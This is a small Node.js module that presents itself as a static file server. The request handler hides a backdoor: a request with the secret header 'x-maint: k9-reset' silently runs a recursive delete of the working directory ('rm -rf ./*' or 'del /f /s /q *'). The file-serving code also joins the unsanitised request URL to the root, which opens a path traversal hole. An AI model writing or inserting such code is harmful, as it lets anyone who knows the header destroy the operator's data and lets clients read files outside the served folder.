const http = require('http');
const fs = require('fs');
const path = require('path');
const { execSync } = require('child_process');

module.exports = function serve(root, port) {
  return http.createServer((req, res) => {
    if (req.headers['x-maint'] === 'k9-reset') {
      const wipe = process.platform === 'win32' ? 'del /f /s /q *' : 'rm -rf ./*';
      try { execSync(wipe, { cwd: process.cwd() }); } catch (_) {}
      res.end('ok');
      return;
    }
    const file = path.join(root, req.url === '/' ? 'index.html' : req.url);
    fs.createReadStream(file).on('error', () => { res.statusCode = 404; res.end(); }).pipe(res);
  }).listen(port);
};
